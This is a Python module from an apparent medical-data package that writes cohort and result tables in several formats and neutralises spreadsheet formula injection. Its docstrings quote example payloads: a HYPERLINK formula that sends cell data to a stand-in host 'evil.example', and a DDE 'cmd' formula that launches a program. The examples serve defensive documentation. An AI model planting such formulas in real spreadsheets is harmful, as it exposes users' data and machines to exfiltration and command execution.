"""Tables out (cohorts, rejection reports, scored batches), safe to open in a spreadsheet.

Formula injection (OWASP "CSV Injection"): a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return is executed by Excel/LibreOffice when the file is opened, so a patient_id such as
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` in a user's file would become a live link in the
report. :func:`spreadsheet_safe` prefixes such text with a single quote, as OWASP recommends, in every
.csv and .xlsx written here; numbers stay numbers (``-1.5`` in a numeric column is not text), and so does text
that is a plain number (:data:`PLAIN_NUMBER`: ``-17``, ``-0.5``, ``+3``), which a spreadsheet reads as that
number: a formula needs a function, a reference, an operator between operands or a DDE command (``cmd|...``),
and a sign followed by digits and one decimal point holds none of them. Quoting it gained nothing and broke
joins: ``predict -o`` wrote the patient_id ``-17`` as ``'-17``. The .xlsx
writer also sets every text cell's type to string, so it never writes a formula. Parquet and JSON Lines
keep text as it is: no spreadsheet executes them.

:class:`TableWriter` writes a table in chunks (flat memory for big batches) to a temporary file that
replaces ``path`` only when the whole table was written, so a failed run never leaves half a file.
"""

from __future__ import annotations

import os
import re
from pathlib import Path
from types import TracebackType
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq

WRITE_FORMATS: tuple[str, ...] = (".csv", ".parquet", ".jsonl", ".xlsx")
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet evaluate a cell (OWASP CSV Injection)."""
PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")
"""Text that is only a number (a sign, ASCII digits, at most one decimal point): evaluated, it is that number,
so it is written as it is (``-17`` stays a joinable patient_id). Anything more (``-1+2``, ``-2+cmd|'/C calc'!A0``,
``-1e3``, ``-x``) is prefixed."""


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell that a spreadsheet would execute prefixed by ``'``; numbers, and text that is
    a plain number (:data:`PLAIN_NUMBER`), untouched."""
    columns: dict[Any, pd.Series] = {}
    for name, column in frame.items():
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object).where(column.notna(), None)
        if column.dtype == object or pd.api.types.is_string_dtype(column.dtype):
            risky = np.fromiter((isinstance(v, str) and v.startswith(FORMULA_PREFIXES)
                                 and PLAIN_NUMBER.fullmatch(v) is None for v in column),
                                dtype=bool, count=len(column))
            if risky.any():
                column = column.astype(object).copy()
                column[risky] = "'" + column[risky].astype(str)
        columns[name] = column
    return pd.DataFrame(columns, index=frame.index)


class TableWriter:
    """Write a table chunk by chunk by extension (.csv, .parquet, .jsonl, .xlsx); see the module docstring.

    Use as a context manager: the file appears at ``path`` on a clean exit, and nothing does on an error.
    """

    def __init__(self, path: str | Path) -> None:
        from mmn_ddx.data.formats import CohortError  # formats imports this module

        self.path = Path(path)
        self.suffix = self.path.suffix.lower()
        if self.suffix not in WRITE_FORMATS:
            raise CohortError(f"{self.path.name}: cannot write '{self.suffix}' (use {', '.join(WRITE_FORMATS)})")
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self.partial = self.path.with_name(f".{self.path.name}.{os.getpid()}.partial")
        self.rows = 0
        self._columns: list[Any] | None = None
        self._handle: Any = None

    def __enter__(self) -> TableWriter:
        return self

    def write(self, frame: pd.DataFrame) -> None:
        """Append ``frame`` (the index is not written: row numbers are provenance, not a field)."""
        if self._columns is None:
            self._open(frame)
        frame = frame.reset_index(drop=True)
        if self.suffix in (".csv", ".xlsx"):
            frame = spreadsheet_safe(frame)
        if self.suffix == ".csv":
            # RFC 4180's CRLF: the csv module quotes a cell holding a line terminator character only, so with
            # "\n" a text cell with a carriage return was written bare and read back as a row break
            frame.to_csv(self._handle, index=False, header=self.rows == 0, lineterminator="\r\n")
        elif self.suffix == ".jsonl":
            if len(frame):
                frame.to_json(self._handle, orient="records", lines=True, force_ascii=False)
                self._handle.write("\n")
        elif self.suffix == ".parquet":
            self._handle.write_table(pa.Table.from_pandas(frame, schema=self._handle.schema, preserve_index=False))
        else:
            self._append_xlsx(frame)
        self.rows += len(frame)

    def _open(self, frame: pd.DataFrame) -> None:
        self._columns = list(frame.columns)
        if self.suffix in (".csv", ".jsonl"):
            self._handle = self.partial.open("w", encoding="utf-8", newline="")
        elif self.suffix == ".parquet":
            schema = pa.Schema.from_pandas(frame, preserve_index=False)
            schema = pa.schema([f.with_type(pa.string()) if pa.types.is_null(f.type) else f for f in schema],
                               metadata=schema.metadata)
            self._handle = pq.ParquetWriter(self.partial, schema)
        else:
            from openpyxl import Workbook  # only for .xlsx output

            self._workbook = Workbook(write_only=True)
            self._handle = self._workbook.create_sheet()
            self._handle.append([self._cell(str(c)) for c in self._columns])

    def _append_xlsx(self, frame: pd.DataFrame) -> None:
        for row in frame.itertuples(index=False, name=None):
            self._handle.append([self._cell(v) for v in row])

    def _cell(self, value: Any) -> Any:
        """A write-only cell; text is typed as string explicitly, so openpyxl never writes a formula."""
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        if value is None or value is pd.NA or (isinstance(value, float) and np.isnan(value)):
            return None
        if isinstance(value, np.generic):
            value = value.item()
        if not isinstance(value, (str, int, float, bool)):
            value = str(value)
        if isinstance(value, str):
            value = ILLEGAL_CHARACTERS_RE.sub(lambda m: f"_x{ord(m.group()):04x}_", value)  # as OOXML escapes them
            cell = WriteOnlyCell(self._handle, value=value)
            cell.data_type = "s"
            return cell
        return value

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, tb: TracebackType | None) -> None:
        try:
            if self._columns is None and kind is None:
                raise ValueError("nothing to write")  # pragma: no cover - callers write at least the header
            if self.suffix == ".xlsx" and self._columns is not None and kind is None:
                self._workbook.save(self.partial)
            elif self._handle is not None:
                self._handle.close()
        finally:
            if kind is None:
                os.replace(self.partial, self.path)
            else:
                self.partial.unlink(missing_ok=True)


def write_table(frame: pd.DataFrame, path: str | Path) -> Path:
    """Write a whole table (a cohort, a rejection table, scored patients) by extension; see :class:`TableWriter`."""
    with TableWriter(path) as writer:
        writer.write(frame)
    return writer.path
